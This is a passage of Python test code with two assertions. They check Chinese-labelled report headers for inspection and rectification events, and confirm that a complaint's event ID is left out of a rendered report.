    assert "事件" in headers.get("现场检查", []) and "责令事件" in headers.get("整改", [])
    assert file.complaints[0].event_id not in render_text(report)
